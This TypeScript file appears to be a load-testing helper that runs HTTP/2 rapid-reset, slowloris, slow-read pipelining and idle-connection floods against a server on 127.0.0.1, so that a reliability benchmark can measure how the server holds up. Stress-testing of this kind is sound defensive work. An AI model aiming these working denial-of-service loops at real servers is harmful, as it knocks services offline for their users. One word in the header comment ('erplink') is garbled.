/**
 * The hostile clients of `bench/reliability.ts`, run as a process of their
 * own so that their work does not share an event loop with the healthy
 * client whose latency the survey measures:
 *
 *   node --import tsx bench/reliability-attack.ts '<JSON AttackCommand>'
 *
 * It prints `started` when the attack begins, runs it for `seconds`, closes
 * every connection it opened, and prints `result <JSON>` with its counts.
 * It only ever connects to 127.0.0.1 (from other loopback addresses where
 * the attack says so), and exits by itself `seconds` + 10 s after it began
 * whatever happens.
 *
 * - `rapid-reset`: one loop per `localAddresses` entry; each opens an h2c
 *   connection, writes the preface and batches of HEADERS + RST_STREAM
 *   (CANCEL) pairs (each batch in one write) for as long as the connection
 *   is open, and reconnects as soon as it is closed.
 * - `pipeline`: `connections` connections, each writing `requests`
 *   pipelined GETs at once and then reading answers slowly (one chunk of at
 *   most 64 KiB every 250 ms).
 * - `slowloris`: `connections` connections, each sending a request line and
 *   then one byte of a header that never ends every 2-5 s.
 * - `idle`: `connections` connections, half HTTP/1.1 sending nothing, half
 *   h2c sending the preface and SETTINGS and nothing after; a connection
 *   erplink closes is opened again.
 */
import net from "node:net";
import { PREFACE, rawHeaders, rawRst } from "../test-support/raw-h2.js";

export type AttackCommand =
  | { kind: "rapid-reset"; port: number; seconds: number; path: string; authorization: string; localAddresses: string[]; pairsPerWrite: number }
  | { kind: "pipeline"; port: number; seconds: number; path: string; authorization: string; connections: number; requests: number }
  | { kind: "slowloris"; port: number; seconds: number; path: string; connections: number }
  | { kind: "idle"; port: number; seconds: number; connections: number };

const NGHTTP2_CANCEL = 0x8;
const GOAWAY = 0x7;
const ENHANCE_YOUR_CALM = 0xb;

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Opens a connection to 127.0.0.1:`port`; resolves once connected, or with the error. */
function connect(port: number, localAddress?: string): Promise<net.Socket | Error> {
  return new Promise((resolve) => {
    const socket = net.connect({ host: "127.0.0.1", port, localAddress });
    const onError = (err: Error) => resolve(err);
    socket.once("error", onError);
    socket.once("connect", () => {
      socket.off("error", onError);
      socket.on("error", () => {});
      resolve(socket);
    });
  });
}

// ------------------------------------------------------------ rapid reset

async function rapidReset(cmd: Extract<AttackCommand, { kind: "rapid-reset" }>, deadline: number) {
  const counts = { connections: 0, connectErrors: 0, refused: 0, calmed: 0, otherGoaways: 0, streams: 0, bytesReceived: 0 };
  const headers: [string, string][] = [
    [":method", "GET"],
    [":scheme", "http"],
    [":authority", `127.0.0.1:${cmd.port}`],
    [":path", cmd.path],
    ["authorization", cmd.authorization],
  ];
  /** One session: resolves when it is closed. */
  const session = (socket: net.Socket) =>
    new Promise<void>((resolve) => {
      counts.connections++;
      let received: Buffer = Buffer.alloc(0);
      let got = 0;
      let goaway = false;
      let next = 1;
      let closed = false;
      socket.on("data", (chunk: Buffer) => {
        got += chunk.length;
        counts.bytesReceived += chunk.length;
        if (goaway) return;
        received = received.length === 0 ? chunk : Buffer.concat([received, chunk]);
        // Frames: 9-byte head (length, type, flags, stream), then the payload.
        let at = 0;
        while (at + 9 <= received.length) {
          const length = received.readUIntBE(at, 3);
          if (at + 9 + length > received.length) break;
          if (received[at + 3] === GOAWAY && length >= 8) {
            goaway = true;
            if (received.readUInt32BE(at + 9 + 4) === ENHANCE_YOUR_CALM) counts.calmed++;
            else counts.otherGoaways++;
            break;
          }
          at += 9 + length;
        }
        received = received.subarray(at);
      });
      const pump = () => {
        while (!closed && socket.writable && Date.now() < deadline && next < 2 ** 31 - 2 * cmd.pairsPerWrite) {
          const frames: Buffer[] = next === 1 ? [PREFACE] : [];
          for (let i = 0; i < cmd.pairsPerWrite; i++, next += 2) frames.push(rawHeaders(next, headers, true), rawRst(next, NGHTTP2_CANCEL));
          counts.streams += cmd.pairsPerWrite;
          if (!socket.write(Buffer.concat(frames))) {
            socket.once("drain", pump);
            return;
          }
          // One batch per turn of the event loop: the server's answers are read meanwhile.
          setImmediate(pump);
          return;
        }
      };
      socket.once("close", () => {
        closed = true;
        if (got === 0) counts.refused++;
        resolve();
      });
      pump();
      // A session still open at the end is closed by the attacker.
      const timer = setTimeout(() => socket.destroy(), Math.max(0, deadline - Date.now()));
      socket.once("close", () => clearTimeout(timer));
    });
  const loop = async (localAddress: string) => {
    while (Date.now() < deadline) {
      const socket = await connect(cmd.port, localAddress);
      if (socket instanceof Error) {
        counts.connectErrors++;
        // Out of ports, say: a moment for the kernel before the next try.
        await sleep(5);
        continue;
      }
      await session(socket);
    }
  };
  await Promise.all(cmd.localAddresses.map(loop));
  return counts;
}

// ------------------------------------------------------------ pipelining

async function pipeline(cmd: Extract<AttackCommand, { kind: "pipeline" }>, deadline: number) {
  const counts = { connections: 0, connectErrors: 0, requestsWritten: 0, bytesWritten: 0, answers: 0, bytesRead: 0, closedByServer: 0 };
  const request = `GET ${cmd.path} HTTP/1.1\r\nHost: 127.0.0.1:${cmd.port}\r\nAuthorization: ${cmd.authorization}\r\n\r\n`;
  const all = Buffer.from(request.repeat(cmd.requests), "latin1");
  const one = async () => {
    const socket = await connect(cmd.port);
    if (socket instanceof Error) {
      counts.connectErrors++;
      return;
    }
    counts.connections++;
    let carry = "";
    socket.pause();
    socket.on("data", (chunk: Buffer) => {
      counts.bytesRead += chunk.length;
      const text = carry + chunk.toString("latin1");
      counts.answers += text.split("HTTP/1.1 ").length - 1;
      // A status line cut by the chunk is counted with the next one (8 bytes hold no whole one).
      carry = text.slice(-8);
      socket.pause();
    });
    const reader = setInterval(() => socket.resume(), 250);
    socket.write(all);
    counts.requestsWritten += cmd.requests;
    counts.bytesWritten += all.length;
    await new Promise<void>((resolve) => {
      const timer = setTimeout(() => socket.destroy(), Math.max(0, deadline - Date.now()));
      socket.once("close", () => {
        clearTimeout(timer);
        clearInterval(reader);
        if (Date.now() < deadline - 50) counts.closedByServer++;
        resolve();
      });
    });
  };
  await Promise.all(Array.from({ length: cmd.connections }, one));
  return counts;
}

// ------------------------------------------------------------ slowloris

async function slowloris(cmd: Extract<AttackCommand, { kind: "slowloris" }>, deadline: number) {
  const counts = { connections: 0, connectErrors: 0, bytesSent: 0, closedByServer: 0, openAtEnd: 0, firstClosedAfterMs: -1 };
  const sockets = new Set<net.Socket>();
  const one = async () => {
    const socket = await connect(cmd.port);
    if (socket instanceof Error) {
      counts.connectErrors++;
      return;
    }
    counts.connections++;
    sockets.add(socket);
    const opened = Date.now();
    const head = `GET ${cmd.path} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: `;
    socket.write(head);
    counts.bytesSent += head.length;
    let timer: NodeJS.Timeout | undefined;
    const drip = () => {
      if (!socket.writable) return;
      socket.write("a");
      counts.bytesSent++;
      timer = setTimeout(drip, 2000 + Math.random() * 3000);
    };
    timer = setTimeout(drip, 2000 + Math.random() * 3000);
    socket.resume();
    socket.once("close", () => {
      clearTimeout(timer);
      sockets.delete(socket);
      if (Date.now() < deadline) {
        counts.closedByServer++;
        if (counts.firstClosedAfterMs < 0) counts.firstClosedAfterMs = Date.now() - opened;
      }
    });
  };
  await Promise.all(Array.from({ length: cmd.connections }, one));
  await sleep(Math.max(0, deadline - Date.now()));
  counts.openAtEnd = sockets.size;
  for (const s of sockets) s.destroy();
  return counts;
}

// ------------------------------------------------------------ idle

async function idle(cmd: Extract<AttackCommand, { kind: "idle" }>, deadline: number) {
  const counts = { opened: 0, connectErrors: 0, closedByServerH1: 0, closedByServerH2: 0, firstClosedAfterMs: -1, openAtEnd: 0 };
  const sockets = new Set<net.Socket>();
  const one = async (h2: boolean) => {
    while (Date.now() < deadline) {
      const socket = await connect(cmd.port);
      if (socket instanceof Error) {
        counts.connectErrors++;
        await sleep(50);
        continue;
      }
      counts.opened++;
      sockets.add(socket);
      const opened = Date.now();
      if (h2) socket.write(PREFACE);
      socket.resume();
      await new Promise<void>((resolve) => socket.once("close", () => resolve()));
      sockets.delete(socket);
      if (Date.now() >= deadline) return;
      if (h2) counts.closedByServerH2++;
      else counts.closedByServerH1++;
      if (counts.firstClosedAfterMs < 0) counts.firstClosedAfterMs = Date.now() - opened;
    }
  };
  const loops = Array.from({ length: cmd.connections }, (_, i) => one(i % 2 === 1));
  await sleep(Math.max(0, deadline - Date.now()));
  counts.openAtEnd = sockets.size;
  for (const s of sockets) s.destroy();
  await Promise.all(loops);
  return counts;
}

// ------------------------------------------------------------ main

const cmd = JSON.parse(process.argv[2] ?? "null") as AttackCommand | null;
if (cmd === null) {
  process.stderr.write("usage: reliability-attack.ts '<JSON attack>'\n");
  process.exit(2);
}
setTimeout(() => {
  process.stderr.write("reliability-attack: not done in time; giving up\n");
  process.exit(1);
}, (cmd.seconds + 10) * 1000).unref();
// Never outlive the survey.
process.stdin.on("end", () => process.exit(1));
process.stdin.resume();

const deadline = Date.now() + cmd.seconds * 1000;
process.stdout.write("started\n");
const counts =
  cmd.kind === "rapid-reset"
    ? await rapidReset(cmd, deadline)
    : cmd.kind === "pipeline"
      ? await pipeline(cmd, deadline)
      : cmd.kind === "slowloris"
        ? await slowloris(cmd, deadline)
        : await idle(cmd, deadline);
process.stdout.write(`result ${JSON.stringify(counts)}\n`);
process.exit(0);
